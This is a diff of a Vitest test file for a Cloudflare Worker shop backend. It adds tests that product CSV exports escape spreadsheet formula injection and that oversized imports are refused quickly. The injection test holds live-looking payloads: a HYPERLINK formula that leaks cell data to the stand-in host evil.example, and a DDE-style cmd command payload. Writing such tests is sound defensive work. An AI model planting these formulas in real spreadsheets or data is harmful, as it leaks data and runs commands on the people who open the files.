@@ -1,8 +1,8 @@
 import { SELF } from "cloudflare:test";
 import { env } from "cloudflare:workers";
 import { describe, expect, it } from "vitest";
-import { CSV_MAX_ROWS, PRODUCT_CSV_COLUMNS } from "../../contract/console-catalogue";
-import { csvText, parseCsv } from "../../worker/backend/services/csv";
+import { CSV_MAX_ROWS, CSV_REPORT_MAX_ERRORS, PRODUCT_CSV_COLUMNS } from "../../contract/console-catalogue";
+import { csvCell, csvText, parseCsv } from "../../worker/backend/services/csv";
 import { call, freshIp } from "../support/commerce";
 import { newStaff, type Staff } from "../support/console";
 
@@ -237,6 +237,92 @@ describe("products CSV", () => {
     const support = await newStaff("support");
     expect((await exportCsv(support)).res.status).toBe(200);
     expect((await importCsv(support, "sku\r\n", true)).status).toBe(403);
+  });
+
+  it("CSV formula injection: exported cells never start with a formula character", async () => {
+    const owner = await newStaff("owner");
+    const slug = unique("formula");
+    const attack = {
+      name_en: '=HYPERLINK("https://evil.example/?d="&ENCODEURL(B3&C3),"Open spec sheet")',
+      name_ar: "@SUM(1+1)*cmd|' /C calc'!A0",
+      model: "+1+1",
+      description_en: "-2+3",
+      description_ar: "\tشرح",
+    };
+    const created = await call(owner, "POST", "/admin/products", {
+      slug,
+      sku: slug.toUpperCase(),
+      name_en: attack.name_en,
+      name_ar: attack.name_ar,
+      model: attack.model,
+      description_en: attack.description_en,
+      description_ar: attack.description_ar,
+      price: 1500,
+      stock: 2,
+      category_id: await category(),
+    });
+    expect(created.status).toBe(201);
+    const { text } = await exportCsv(owner);
+    const records = parseCsv(text);
+    const mine = records.find((r) => r[0] === slug.toUpperCase())!;
+    // No cell of the whole file, as a spreadsheet reads it, starts a formula.
+    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const at = (c: (typeof PRODUCT_CSV_COLUMNS)[number]) => mine[PRODUCT_CSV_COLUMNS.indexOf(c)];
+    expect(at("name_en")).toBe(`'${attack.name_en}`);
+    expect(at("name_ar")).toBe(`'${attack.name_ar}`);
+    expect(at("model")).toBe(`'${attack.model}`);
+
+    // The round trip is lossless: the file back changes nothing, the quote mark is not kept.
+    const before = await call(owner, "GET", `/admin/products/${created.body.data.id}`);
+    // The exported lines themselves, header and this product's, as a spreadsheet saves them back.
+    const lines = text.replace(/^\uFEFF/, "").split("\r\n");
+    const back = `${lines[0]}\r\n${lines.find((l) => l.startsWith(`${slug.toUpperCase()},`))}\r\n`;
+    const done = await importCsv(owner, back, false);
+    expect(done.body.data).toMatchObject({ errors: [], updated: 1, written: true });
+    const after = await call(owner, "GET", `/admin/products/${created.body.data.id}`);
+    const { updated_at: _a, ...was } = before.body.data;
+    const { updated_at: _b, ...is } = after.body.data;
+    expect(is).toEqual(was);
+    expect(is).toMatchObject({ name_en: attack.name_en, name_ar: attack.name_ar, model: attack.model });
+  });
+
+  it("CSV formula injection: a value typed with a leading quote mark survives export and import unchanged", () => {
+    for (const value of ["'=x", "''+1", "'plain", "=1+1", "-5", "@a", "\tx", "\rx", "plain", "a=b"]) {
+      const [[cell, end]] = parseCsv(csvText([[value, "end"]]));
+      expect(end).toBe("end");
+      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      expect(csvCell(cell)).toBe(value);
+    }
+  });
+
+  it("CSV error amplification: a 2 MB header is refused quickly with a small answer", async () => {
+    const manager = await newStaff("manager");
+    const header = Array.from({ length: 1_000_000 }, (_, i) => (i % 2 ? "xy" : "")).join(",");
+    expect(header.length).toBeGreaterThan(1_900_000);
+    const started = Date.now();
+    const res = await SELF.fetch("http://shop.test/backend/admin/products/import?dry_run=1", {
+      method: "POST",
+      headers: {
+        ...manager.headers,
+        "content-type": "text/csv",
+        accept: "application/json",
+        "cf-connecting-ip": freshIp(),
+      },
+      body: `${header}\r\n`,
+    });
+    const body = await res.text();
+    expect(res.status).toBe(422);
+    expect(body.length).toBeLessThan(2_000);
+    expect(Date.now() - started).toBeLessThan(2_000);
+    expect(JSON.parse(body).message).toContain(String(PRODUCT_CSV_COLUMNS.length));
+
+    // A file with many bad rows answers at most CSV_REPORT_MAX_ERRORS of them, and how many there were.
+    const rows = Array.from({ length: CSV_MAX_ROWS }, () => row({ sku: "BAD", slug: "Bad Slug", price: "x" }));
+    const many = await importCsv(manager, csvText([[...PRODUCT_CSV_COLUMNS], ...rows]), true);
+    expect(many.status).toBe(200);
+    expect(many.body.data.errors).toHaveLength(CSV_REPORT_MAX_ERRORS);
+    expect(many.body.data.error_count).toBeGreaterThan(CSV_MAX_ROWS);
+    expect(many.body.data.errors[0].row).toBe(2);
   });
 
   it("parses RFC 4180: quoted commas, doubled quotes, line breaks inside quotes, CRLF or LF, a BOM", () => {
